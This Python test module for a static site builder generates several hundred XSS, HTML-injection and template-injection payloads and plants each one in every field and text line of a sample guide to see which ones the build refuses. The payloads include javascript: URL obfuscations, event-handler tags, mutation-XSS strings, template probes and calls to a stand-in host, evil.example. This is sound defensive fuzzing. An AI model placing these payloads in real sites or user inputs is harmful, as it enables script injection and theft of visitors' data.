"""Texts that would run if a page took them for code, and every place an author can put one."""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Final

from site_src.build.pipeline import build
from site_src.build.result import Options
from site_src.fields.front_matter import read
from site_src.fields.yaml_nodes import scalars
from site_src.model.codes import Severity

if TYPE_CHECKING:
    from collections.abc import Mapping

PROJECT = Path(__file__).parent.parent.parent
GOOD = PROJECT / "tests" / "examples" / "good"

_CALLS: Final = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')")
_TAGS: Final = (
    *("img", "svg", "video", "audio", "iframe", "object", "embed", "input", "button", "body"),
    *("details", "select", "textarea", "marquee", "form", "math", "a", "style", "link", "script"),
)
_EVENTS: Final = ("onerror", "onload", "onfocus autofocus", "ontoggle open", "onmouseover")
_BEFORE: Final = (
    *('">', "'>", "\">'>", "-->", "</title>", "</style>", "</textarea>", "</script>", "]]>", "`>"),
    *("</noscript>", "</svg>", "</p>", "*/", "</a>", "</template>", "?>", "<!--><", "</main>"),
)
_QUOTED: Final = (
    *('" onfocus="{0}" autofocus="', "' onfocus='{0}' autofocus='", '"onmouseover="{0}'),
    *('" style="background:url(javascript:{0})', '" srcdoc="<script>{0}</script>', "` onerror={0}"),
    *('x" onerror="{0}', "x' onerror='{0}", '" formaction="javascript:{0}" type="submit'),
)
_ADDRESSES: Final = (
    *("javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&#10;script:{0}"),
    *("&#106;avascript:{0}", "&#x6A;avascript:{0}", "javascript&colon;{0}", "javascript%3A{0}"),
    *("javascript&#58;{0}", "%6aavascript:{0}", "j&Tab;avascript:{0}", "\\javascript:{0}"),
    *("vbscript:{0}", "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("feed:javascript:{0}", "view-source:javascript:{0}", "jar:javascript:{0}!/", "blob:{0}"),
    *("//evil.example/{0}", "\\\\evil.example", "/\\evil.example", "https:evil.example"),
    *("HTTPS://evil.example", "http://evil.example", "ftp://evil.example", "file:///etc/passwd"),
    *("mailto:a", "tel:1", "javascript://evil.example/%0a{0}", "javascript:/*--></title>*/{0}"),
    *("livescript:{0}", "mocha:{0}", "wyciwyg:{0}", "ms-its:{0}", "\u0001javascript:{0}"),
    *(
        "\u00a0javascript:{0}",
        "\u3000javascript:{0}",
        "javascript\u200b:{0}",
        "ja\u00advascript:{0}",
    ),
)
_LINKS: Final = (
    "[x]({0})", '[x]({0} "t")', "[x](<{0}>)", "![x]({0})", "<{0}>", "[x][y]\n\n[y]: {0}",
)  # fmt: skip
_OTHERS: Final = (
    *("{{{{7*7}}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{% include '/etc/passwd' %}}", "${{{0}}}"),
    *(
        "<%= {0} %>",
        "#{{{0}}}",
        "{{0.__class__}}",
        "{{sources}}",
        "{{}}",
        "%s%n",
        "{{guide.words}}",
    ),
    *("<svg><style><img src=x onerror={0}></style>", "<math><mtext><style><img src=x onerror={0}>"),
    *(
        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
        "<svg></p><style><a id='</style>",
    ),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
        "<x/onclick={0}>",
    ),
    *(
        "<svg><animate onbegin={0} attributeName=x>",
        "<svg><set attributeName=href to=javascript:{0}>",
    ),
    *(
        "<a href=javascript:{0}>x",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
    ),
    *(
        "<link rel=import href=//evil.example>",
        "<iframe srcdoc='<script>{0}</script>'>",
        "<isindex>",
    ),
    *("+ADw-script+AD4-{0}", "\uff1cscript\uff1e{0}", "<scr<script>ipt>{0}</scr</script>ipt>"),
    *(
        "<<script>{0}//<</script>",
        "<script\x0b>{0}</script>",
        "<script/src=//evil.example>",
        "<ſcript>",
    ),
    *(
        "<img src=`x`onerror={0}>",
        "<img/src/onerror={0}>",
        "<image src=x onerror={0}>",
        "<plaintext>",
    ),
    *(
        "<!--<img src='--><img src=x onerror={0}>'",
        "<![CDATA[<script>{0}</script>]]>",
        "<?xml x ?>",
    ),
    *(
        "<!doctype html><script>{0}</script>",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&#60;script&#62;",
    ),
    *(
        "**<b onclick={0}>**",
        "`<svg onload={0}>`",
        "~~~\n<script>{0}</script>\n~~~",
        "|a|\n|-|\n|<b>|",
    ),
    *("[<img src=x onerror={0}>](about.md)", "*[x]: <script>{0}</script>", "[^1]: <b onclick={0}>"),
    *("[weak: <script>{0}</script>]", '[weak: a" onclick="{0}]', "[strong: '><b>]", "[expert <b>]"),
    *(
        "\\u003cscript\\u003e{0}",
        "\\x3cscript\\x3e{0}",
        "\u2028{0}\u2028",
        '\\"><script>{0}</script>',
    ),
    *(
        "guide:javascript:{0}",
        "[x](guide:../../etc)",
        "<span data-certainty=strong>",
        "\u0000<script>",
    ),
    *(
        "<style>@import '//evil.example';</style>",
        "<style>*{{background:url(//evil.example)}}</style>",
    ),
    *("<table background=//evil.example>", "<portal src=//evil.example>", "<dialog open><form>"),
)

# Words that a form in Markdown, in lines or in values could take for signs of its own.
MARKUP: Final = (
    "x](https://evil.example/a) ![p](https://evil.example/p.png) <img src=x>",
    "[a](https://evil.example/b) <https://evil.example/c> <b>x</b>",
    "# x\n\n## Forged\n\n[a](https://evil.example/d)",
    "x\nForged: `code` **bold** _soft_ ~~out~~",
    "- x\n- y <!-- x -->",
    "x\n\n[evil]: https://evil.example/e\n\n[evil]",
    "&lt;b&gt; &#91;a&#93;(https://evil.example/f) &copy;",
    "x\\](https://evil.example/g) x\\",
    "```\nx\n```",
    "> x | y\n---|---\nx | y",
    "x!\nBEGIN:VALARM\nX-EVIL:1;2,3",
    "1) x\n\n    x\n\n***\n\nx\n===",
    "]]> x </content> -->",
    "x\n/* /evil 301\n/evil https://evil.example/h 301",
)


def vectors() -> list[str]:
    """Return every hostile text, each once."""
    made = [
        f"<{tag} {event.partition(' ')[0]}={call} src=x {event.partition(' ')[2]}>"
        for number, tag in enumerate(_TAGS)
        for event in _EVENTS
        for call in (_CALLS[number % len(_CALLS)],)
    ]
    made += [f"{before}<script>{call}</script>" for before in _BEFORE for call in _CALLS[:2]]
    made += [f"{before}<img src=x onerror={_CALLS[0]}>" for before in _BEFORE]
    made += [quoted.format(call) for quoted in _QUOTED for call in _CALLS[:3]]
    made += [address.format(_CALLS[0]) for address in _ADDRESSES]
    made += [
        link.format(address.format(_CALLS[0]))
        for number, address in enumerate(_ADDRESSES)
        for link in (_LINKS[number % len(_LINKS)], _LINKS[(number + 1) % len(_LINKS)])
    ]
    made += [other.format(_CALLS[0]) for other in _OTHERS]
    return list(dict.fromkeys(made))


@dataclass(frozen=True)
class Spot:
    """A place that an author can fill: a value of a field, or a piece of the text below."""

    path: str
    line: int
    column: int
    length: int
    is_field: bool

    def filled(self, text: str, put: str) -> str:
        """Return the text of the file with something else here."""
        lines = text.split("\n")
        line = lines[self.line - 1]
        start = self.column - 1
        value = json.dumps(put, ensure_ascii=False) if self.is_field else put
        lines[self.line - 1] = line[:start] + value + line[start + self.length :]
        return "\n".join(lines)


def spots() -> list[Spot]:
    """Return every value of every field of the small guide, and every line of its texts."""
    found = []
    for file in sorted(GOOD.rglob("*.*")):
        path = file.relative_to(GOOD).as_posix()
        document, _, text = read(file.read_bytes(), path)
        assert document
        found += [
            Spot(path, one.place.line, one.place.column, one.place.length, is_field=True)
            for one in scalars(document.fields)
            if "{" not in one.text  # a word with a blank in it must keep its blank
        ]
        if not document.body:
            continue
        for number, line in enumerate(text.split("\n")[document.body_line - 1 :]):
            words = re.search(r"\w.*", line)
            if words:
                at = words.start() + 1
                found.append(
                    Spot(path, document.body_line + number, at, len(words[0]), is_field=False)
                )
    return found


_TO_GLOSSARY: Final = "[hold](words.md#hold)"


def fill(folder: Path, puts: Mapping[Spot, str], address: str) -> Options:
    """Return a build of the small guide with other texts in some places."""
    shutil.rmtree(folder, ignore_errors=True)
    content = folder / "content"
    shutil.copytree(GOOD, content)
    for spot in sorted(puts, key=lambda one: (one.path, one.line, one.column), reverse=True):
        file = content / spot.path
        text = spot.filled(file.read_text(encoding="utf-8"), puts[spot])
        file.write_bytes(text.encode("utf-8", "surrogatepass"))
    about = content / "pages" / "about.md"  # its link would hold the one word of the glossary
    about.write_text(about.read_text(encoding="utf-8").replace(_TO_GLOSSARY, "hold"), "utf-8")
    return Options(
        project=folder,
        content=content,
        templates=PROJECT / "templates",
        static=PROJECT / "static",
        output=folder / "output",
        today=date(2026, 11, 23),
        base_url=address,
    )


def build_what_is_taken(folder: Path, puts: Mapping[Spot, str], address: str) -> dict[Spot, str]:
    """Build with a text wherever it is not refused; return which texts then stand in the guide.

    A place is given up when a problem is on its line, or in its file where the text has more lines
    than one and moves what is below it.
    """
    kept = dict(puts)
    while True:
        options = fill(folder, kept, address)
        result = build(options)
        if not result.has_errors:
            return kept
        errors = [one for one in result.problems if one.severity is Severity.ERROR]
        lines = {(one.place.path.removeprefix("content/"), one.place.line) for one in errors}
        assert all((GOOD / path).is_file() for path, _ in lines), errors
        refused = {spot for spot in kept if (spot.path, spot.line) in lines}
        refused = refused or {spot for spot in kept if spot.path in {path for path, _ in lines}}
        refused = refused or {spot for spot in kept if not spot.is_field}  # headings are linked to
        assert refused, f"refused for what nobody wrote: {errors}"
        kept = {spot: text for spot, text in kept.items() if spot not in refused}
